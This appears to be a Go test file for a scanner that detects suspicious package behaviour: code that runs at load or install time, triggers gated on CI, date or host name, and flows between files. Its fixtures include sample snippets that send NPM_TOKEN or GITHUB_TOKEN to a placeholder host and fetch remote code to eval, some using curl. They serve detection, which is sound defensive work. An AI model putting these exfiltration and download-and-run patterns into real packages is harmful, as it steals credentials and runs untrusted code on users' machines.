package behavior

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// A moment is when something happens.
type moment string

const (
	onLoading moment = "on loading"
	onCalling moment = "on calling"
)

// momentOf tells when a file starts the program "id".
func momentOf(file, source string) moment {
	f := Of(file, []byte(source))
	i := slices.IndexFunc(f.Observations, func(o Observation) bool { return o.Kind == Process && strings.HasPrefix(o.What, "id") })
	switch {
	case i < 0:
		return ""
	case slices.ContainsFunc(f.Observations, func(o Observation) bool { return o.Kind == Process && strings.HasPrefix(o.What, "id") && o.Loads }):
		return onLoading
	}
	return onCalling
}

func TestWhatHappensOnLoadingIsKnown(t *testing.T) {
	const js, py, rb = `const { exec } = require('child_process'); `, "import os\n", ""
	tests := []struct {
		name, file, source string
		want               moment
	}{
		{"at the top", "a.js", js + `exec('id')`, onLoading},
		{"in a function that is called at once", "a.js", js + `(function () { exec('id') })()`, onLoading},
		{"in an arrow that is called at once", "a.js", js + `(() => { exec('id') })()`, onLoading},
		{"in an asynchronous function that is called at once", "a.js", js + `!async function () { exec('id') }()`, onLoading},
		{"in a function that is called", "a.js", js + `function f() { exec('id') } f()`, onLoading},
		{"in a function that is called before it stands there", "a.js", js + `f(); function f() { exec('id') }`, onLoading},
		{"two calls away", "a.js", js + `function f() { exec('id') } function g() { f() } g()`, onLoading},
		{"in a function that is handed on", "a.js", js + `setTimeout(() => exec('id'), 1000)`, onLoading},
		{"in a function that waits", "a.js", js + `Promise.resolve().then(() => exec('id'))`, onLoading},
		{"in a function of a process's events", "a.js", js + `process.on('exit', () => exec('id'))`, onLoading},
		{"in a constructor that is called", "a.ts", js + `class A { constructor() { exec('id') } } new A()`, onLoading},
		{"in a method that is called", "a.ts", js + `class A { go() { exec('id') } } new A().go()`, onLoading},
		{"in a static block", "a.ts", js + `class A { static { exec('id') } }`, onLoading},
		{"in a static field", "a.ts", js + `class A { static x = exec('id') }`, onLoading},
		{"in a default of a module", "a.mjs", `import { exec } from 'child_process'; export default exec('id')`, onLoading},
		{"in a module of webpack", "a.js", `(function (m) { m[0]() })([function () { require('child_process').exec('id') }])`, onLoading},
		{"in a branch", "a.js", js + `if (x) { exec('id') }`, onLoading},
		{"in an exported function", "a.js", js + `module.exports = function () { exec('id') }`, onCalling},
		{"in an exported arrow", "a.mjs", `import { exec } from 'child_process'; export const f = () => exec('id')`, onCalling},
		{"in a constructor of an exported class", "a.ts", `import { exec } from 'child_process'; export class A { constructor() { exec('id') } }`, onCalling},
		{"in a method", "a.ts", js + `exports.A = class { go() { exec('id') } }`, onCalling},
		{"in a function that nobody calls", "a.js", js + `function f() { exec('id') }`, onCalling},
		{"when it is the program", "a.js", js + `if (require.main === module) exec('id')`, onCalling},

		{"at the top of Python", "a.py", py + "os.system('id')", onLoading},
		{"in a function of Python that is called", "a.py", py + "def f():\n    os.system('id')\nf()", onLoading},
		{"in the body of a class", "a.py", py + "class A:\n    os.system('id')", onLoading},
		{"in a field of a class", "a.py", py + "class A:\n    x = os.system('id')", onLoading},
		{"in a decorator", "a.py", py + "def d(f):\n    os.system('id')\n    return f\n@d\ndef g():\n    pass", onLoading},
		{"in a default", "a.py", py + "def f(x=os.system('id')):\n    pass", onLoading},
		{"in a thread", "a.py", py + "import threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()", onLoading},
		{"at the end", "a.py", py + "import atexit\ndef f():\n    os.system('id')\natexit.register(f)", onLoading},
		{"in a command of setup", "setup.py", py + "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': I})", onLoading},
		{"in a command of setup that is named", "setup.py", py + "from setuptools import setup, Command\nclass I(Command):\n    def run(self):\n        os.system('id')\nsetup(name='a', cmdclass=dict(install=I))", onLoading},
		{"in a constructor of Python that is called", "a.py", py + "class A:\n    def __init__(self):\n        os.system('id')\nA()", onLoading},
		{"in a method of Python that is called", "a.py", py + "class A:\n    def go(self):\n        os.system('id')\nA().go()", onLoading},
		{"in a method that a constructor calls", "a.py", py + "class A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()", onLoading},
		{"in a try", "a.py", py + "try:\n    os.system('id')\nexcept Exception:\n    pass", onLoading},
		{"in a lambda that is called", "a.py", py + "(lambda: os.system('id'))()", onLoading},
		{"in a program of Python", "a.py", py + "if __name__ == '__main__':\n    os.system('id')", onCalling},
		{"in a main function of Python", "a.py", py + "def main():\n    os.system('id')\nif __name__ == '__main__':\n    main()", onCalling},
		{"in a function of Python", "a.py", py + "def f():\n    os.system('id')", onCalling},
		{"in a constructor of Python", "a.py", py + "class A:\n    def __init__(self):\n        os.system('id')", onCalling},
		{"in a lambda", "a.py", py + "f = lambda: os.system('id')", onCalling},

		{"at the top of Ruby", "a.rb", rb + "system('id')", onLoading},
		{"in a method of Ruby that is called", "a.rb", rb + "def f\n  system('id')\nend\nf()", onLoading},
		{"in a thread of Ruby", "a.rb", rb + "Thread.new { system('id') }", onLoading},
		{"in the body of a module", "a.rb", rb + "module A\n  system('id')\nend", onLoading},
		{"in a block", "a.rb", rb + "at_exit { system('id') }", onLoading},
		{"in a method of Ruby", "a.rb", rb + "def f\n  system('id')\nend", onCalling},

		{"in init", "a.go", "package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"id\").Run() }", onLoading},
		{"in a variable of Go", "a.go", "package a\nimport \"os/exec\"\nvar x = exec.Command(\"id\").Run()", onLoading},
		{"in a function that init calls", "a.go", "package a\nimport \"os/exec\"\nfunc init() { f() }\nfunc f() { exec.Command(\"id\").Run() }", onLoading},
		{"in a goroutine of init", "a.go", "package a\nimport \"os/exec\"\nfunc init() { go func() { exec.Command(\"id\").Run() }() }", onLoading},
		{"in a function of a variable", "a.go", "package a\nimport \"os/exec\"\nvar x = func() error { return exec.Command(\"id\").Run() }()", onLoading},
		{"in a function of Go", "a.go", "package a\nimport \"os/exec\"\nfunc F() { exec.Command(\"id\").Run() }", onCalling},
		{"in a method of Go", "a.go", "package a\nimport \"os/exec\"\nfunc (a A) Init() { exec.Command(\"id\").Run() }", onCalling},
		{"in main", "a.go", "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"id\").Run() }", onCalling},
	}
	for _, tt := range tests {
		if got := momentOf(tt.file, tt.source); got != tt.want {
			t.Errorf("%s: got %q, want %q\n%s", tt.name, got, tt.want, tt.source)
		}
	}
}

// What depends on a day or a country shows that.
func TestGatesAreToldOfWhatDependsOnThem(t *testing.T) {
	tests := []struct{ name, file, source, want string }{
		{"in a branch", "a.js", `if (process.env.CI) require('child_process').exec('id')`, "CI"},
		{"behind a shortcut", "a.js", `process.env.CI && require('child_process').exec('id')`, "CI"},
		{"behind a choice", "a.js", `process.env.CI ? require('child_process').exec('id') : 0`, "CI"},
		{"behind what leaves", "a.js", `function f() { if (!process.env.CI) return; require('child_process').exec('id') } f()`, "CI"},
		{"in a branch of a branch", "a.js", `if (process.env.NODE_ENV === 'production') { if (x) { require('child_process').exec('id') } }`, "production"},
		{"on a day", "a.js", `if (new Date() > new Date('2027-01-01')) { require('child_process').exec('id') }`, "date"},
		{"in Python", "a.py", "import os\nif os.environ.get('CI'):\n    os.system('id')", "CI"},
		{"in Python on a host", "a.py", "import os, socket\nif socket.gethostname().startswith('x'):\n    os.system('id')", "host name"},
		{"in Ruby", "a.rb", "if Rails.env.production?\n  system('id')\nend", "production"},
		{"in Go", "a.go", "package a\nimport (\"os\"; \"os/exec\")\nfunc f() { if os.Getenv(\"CI\") != \"\" { exec.Command(\"id\").Run() } }", "CI"},
		{"beside", "a.js", `if (process.env.CI) f(); require('child_process').exec('id')`, ""},
		{"in another branch's function", "a.js", `function g() { if (process.env.CI) return 1 } require('child_process').exec('id')`, ""},
		{"for a platform", "a.js", `if (process.platform === 'win32') require('child_process').exec('id')`, ""},
		{"for debugging", "a.js", `if (process.env.DEBUG) require('child_process').exec('id')`, ""},
	}
	for _, tt := range tests {
		f := Of(tt.file, []byte(tt.source))
		i := slices.IndexFunc(f.Observations, func(o Observation) bool { return o.Kind == Process && o.What == "id" })
		if i < 0 || f.Observations[i].Gate != tt.want {
			t.Errorf("%s: got %v, want gate %q", tt.name, f.Observations, tt.want)
		}
	}
}

// A flow may go from one file of a package to another.
func TestFlowsBetweenFilesAreLinked(t *testing.T) {
	type files map[string]string
	tests := []struct {
		name  string
		files files
		want  []string
	}{
		{"a secret that is handed over", files{"a.js": `const s = require('./b'); s.send(process.env.NPM_TOKEN)`, "b.js": `exports.send = x => fetch('https://x.invalid/', { method: 'POST', body: x })`}, []string{"b.js: secret → network"}},
		{"a secret that is given", files{"a.js": `const { get } = require('./b'); fetch('https://x.invalid/?' + get())`, "b.js": `exports.get = () => process.env.NPM_TOKEN`}, []string{"a.js: secret → network"}},
		{"a download that is handed over", files{"a.js": `const run = require('./b'); fetch('https://x.invalid/').then(r => r.text()).then(t => run.go(t))`, "b.js": `exports.go = c => eval(c)`}, []string{"b.js: network → dynamic"}},
		{"a download that is given", files{"a.js": `const { get } = require('./b'); eval(get())`, "b.js": `exports.get = () => { const c = require('child_process').execSync('curl https://x.invalid/'); return c }`}, []string{"a.js: network → dynamic"}},
		{"modules", files{"a.mjs": `import { send } from './b.mjs'; send(process.env.NPM_TOKEN)`, "b.mjs": `export function send(x) { fetch('https://x.invalid/' + x) }`}, []string{"b.mjs: secret → network"}},
		{"Python", files{"a.py": "import os\nfrom .b import send\nsend(os.environ['GITHUB_TOKEN'])", "b.py": "import requests\ndef send(x):\n    requests.post('https://x.invalid/', data=x)"}, []string{"b.py: secret → network"}},
		{"what is decoded", files{"a.js": `const d = require('./b'); require('child_process').exec(d.text(x))`, "b.js": `exports.text = x => Buffer.from(x, 'base64').toString()`}, []string{"a.js: decoding → process"}},
		{"what is not handed over", files{"a.js": `const s = require('./b'); log(process.env.NPM_TOKEN); s.send('x')`, "b.js": `exports.send = x => fetch('https://x.invalid/', { method: 'POST', body: x })`}, nil},
		{"another function", files{"a.js": `const s = require('./b'); s.log(process.env.NPM_TOKEN)`, "b.js": `exports.send = x => fetch('https://x.invalid/', { body: x }); exports.log = x => console.log(x)`}, nil},
		{"another argument", files{"a.js": `const s = require('./b'); s.send(process.env.NPM_TOKEN, 'x')`, "b.js": `exports.send = (t, x) => fetch('https://x.invalid/', { body: x })`}, nil},
		{"a module that is no file", files{"a.js": `require('b').send(process.env.NPM_TOKEN)`, "b.js": `exports.send = x => fetch('https://x.invalid/', { body: x })`}, nil},
		{"a name of a path", files{"a.js": `require('./b').read('./data.json')`, "b.js": `exports.read = x => require('fs').readFileSync(x)`}, nil},
		{"a setting", files{"a.js": `require('./b').send(process.env.APP_NAME)`, "b.js": `exports.send = x => fetch('https://x.invalid/', { body: x })`}, nil},
	}
	for _, tt := range tests {
		all := make(map[string]*File)
		before := make(map[string]int)
		for name, source := range tt.files {
			all[name] = Of(name, []byte(source))
			before[name] = len(all[name].Flows)
		}
		Link(all, func(from, module string) string {
			base := strings.TrimPrefix(strings.TrimPrefix(module, "./"), ".")
			for _, ending := range [...]string{"", ".js", ".mjs", ".py"} {
				if name := base + ending; base != module && all[name] != nil {
					return name
				}
			}
			return ""
		})
		var got []string
		for name, f := range all {
			for _, flow := range f.Flows[before[name]:] {
				got = append(got, name+": "+flow.From.String()+" → "+flow.Kind.String())
			}
		}
		slices.Sort(got)
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s: (-want +got)\n%s", tt.name, diff)
		}
	}
}
